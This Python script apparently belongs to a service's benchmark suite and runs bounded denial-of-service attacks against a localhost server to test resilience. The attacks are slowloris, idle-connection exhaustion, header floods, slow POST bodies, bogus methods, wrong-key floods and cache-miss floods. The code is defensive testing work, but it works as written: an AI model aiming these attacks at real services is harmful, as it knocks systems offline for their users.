#!/usr/bin/env python3
"""Hostile clients for bench/run's "hostile" phase: one attack, kept up until SIGTERM or
--seconds, from the source address 127.0.0.2 (another client than the measuring load
generator, which comes from 127.0.0.1). Prints one JSON line of counts at the end.

    bench/attack.py MODE --port P [--key K] [--ids N] [--seconds S]

Modes (the issue #13 attacks, bounded):
  slowloris    300 connections, each sending one header byte per second, never a whole head
  idle         1,100 connections that send nothing (past a 1,024 open-file limit)
  headers      1,000 connections, each sending ~384 KB of header lines without ending the head
  methods      requests with made-up methods, 8 keep-alive connections, --rate a second
  slow-bodies  1,060 POST /assets:batchGet sending their body at ~200 bytes/s
  wrong-keys   requests with wrong API keys, 8 keep-alive connections, --rate a second
  batch        POST /assets:batchGet of 100 distinct ids with a valid key (--key), 4 connections,
               --rate / 10 a second (--rate lookups)
  negative     GET of unknown ids (each a new negative entry) with a valid key, 8 connections,
               --rate a second

Each connection is opened again 1 s (ATTACK_RECONNECT_AFTER) after the service closes it, so
the pressure stays on.
"""

import argparse
import asyncio
import json
import random
import resource
import signal
import sys
import uuid

SOURCE = ("127.0.0.2", 0)
COUNTS: dict[str, int] = {}


def count(what: str, n: int = 1) -> None:
    COUNTS[what] = COUNTS.get(what, 0) + n


async def connect(port: int):
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=SOURCE)
    count("connections")
    return reader, writer


async def answer(reader: asyncio.StreamReader) -> int:
    """Reads one HTTP/1.1 answer (Content-Length bodies); returns its status."""
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ")[1])
    length = 0
    for line in lines[1:]:
        name, _, value = line.partition(":")
        if name.strip().lower() == "content-length":
            length = int(value.strip())
    if length:
        await reader.readexactly(length)
    count(f"status_{status}")
    return status


# How long a connection the service closed waits before it is opened again. With 50 ms, the
# connection attacks became connect floods (22,665 connections in one idle attack), which on
# two cores measured the attacker's CPU more than the service: see bench/RESULTS.md.
RECONNECT_AFTER = float(__import__("os").environ.get("ATTACK_RECONNECT_AFTER", "1.0"))


async def forever(one, *args) -> None:
    """Runs one connection's attack again each time the service ends it."""
    while True:
        try:
            await one(*args)
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError):
            count("closed_by_service")
            await asyncio.sleep(RECONNECT_AFTER)


async def slowloris(port: int) -> None:
    reader, writer = await connect(port)
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    while True:
        await writer.drain()
        await asyncio.sleep(1.0)
        writer.write(b"a")
        if reader.at_eof():
            raise OSError("closed")


async def idle(port: int) -> None:
    reader, writer = await connect(port)
    data = await reader.read(1)  # returns b"" when the service closes it
    writer.close()
    raise OSError(f"closed ({len(data)} bytes)")


async def headers(port: int) -> None:
    reader, writer = await connect(port)
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
    line = b"X-Flood: " + b"f" * 1000 + b"\r\n"
    for _ in range(384):
        writer.write(line)
        await writer.drain()
    await answer(reader)
    raise OSError("answered")


async def keepalive_requests(port: int, make_request, interval: float) -> None:
    reader, writer = await connect(port)
    loop = asyncio.get_running_loop()
    next_at = loop.time()
    while True:
        writer.write(make_request())
        await writer.drain()
        await answer(reader)
        next_at += interval
        await asyncio.sleep(max(0.0, next_at - loop.time()))


async def slow_body(port: int, key: str) -> None:
    reader, writer = await connect(port)
    body = json.dumps({"assetIds": [f"bench-{i:06d}" for i in range(100)]}).encode()
    writer.write(
        b"POST /assets:batchGet HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        + (f"x-api-key: {key}\r\n" if key else "").encode()
        + f"Content-Length: {len(body)}\r\n\r\n".encode()
    )
    for i in range(0, len(body), 20):
        writer.write(body[i : i + 20])
        await writer.drain()
        await asyncio.sleep(0.1)
        if reader.at_eof():
            break
    await answer(reader)
    raise OSError("answered")


async def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("mode")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--key", default="")
    p.add_argument("--ids", type=int, default=10000)
    p.add_argument("--seconds", type=float, default=3600)
    # Requests per second of the request floods, all connections together: bounded, so that
    # the attacker (Python, on the load generator's core) does not starve the measuring client
    # of CPU, which would be measured as the service's loss.
    p.add_argument("--rate", type=float, default=2000)
    a = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    key_header = f"x-api-key: {a.key}\r\n" if a.key else ""

    def odd_method() -> bytes:
        method = "X" + uuid.uuid4().hex[:8].upper()
        return f"{method} /assets/bench-000001/thumbnails HTTP/1.1\r\nHost: x\r\n\r\n".encode()

    def wrong_key() -> bytes:
        return (
            f"GET /assets/bench-000001/thumbnails HTTP/1.1\r\nHost: x\r\n"
            f"x-api-key: wrong-{uuid.uuid4().hex}\r\n\r\n"
        ).encode()

    def batch() -> bytes:
        ids = random.sample(range(a.ids), 100)
        body = json.dumps({"assetIds": [f"bench-{i:06d}" for i in ids]}).encode()
        return (
            f"POST /assets:batchGet HTTP/1.1\r\nHost: x\r\n{key_header}"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        ).encode() + body

    def negative() -> bytes:
        return (
            f"GET /assets/unknown-{uuid.uuid4().hex}/thumbnails HTTP/1.1\r\nHost: x\r\n"
            f"{key_header}\r\n"
        ).encode()

    def flood(make_request, conns: int, rate: float = a.rate):
        return [forever(keepalive_requests, a.port, make_request, conns / rate) for _ in range(conns)]

    tasks = {
        "slowloris": lambda: [forever(slowloris, a.port) for _ in range(300)],
        "idle": lambda: [forever(idle, a.port) for _ in range(1100)],
        "headers": lambda: [forever(headers, a.port) for _ in range(1000)],
        "methods": lambda: flood(odd_method, 8),
        "slow-bodies": lambda: [forever(slow_body, a.port, a.key) for _ in range(1060)],
        "wrong-keys": lambda: flood(wrong_key, 8),
        "batch": lambda: flood(batch, 4, a.rate / 10),
        "negative": lambda: flood(negative, 8),
    }
    if a.mode not in tasks:
        print(f"attack.py: unknown mode {a.mode}", file=sys.stderr)
        return 2
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    running = [asyncio.create_task(t) for t in tasks[a.mode]()]
    try:
        await asyncio.wait_for(stop.wait(), a.seconds)
    except asyncio.TimeoutError:
        pass
    for t in running:
        t.cancel()
    await asyncio.gather(*running, return_exceptions=True)
    print(json.dumps({"mode": a.mode, **COUNTS}))
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
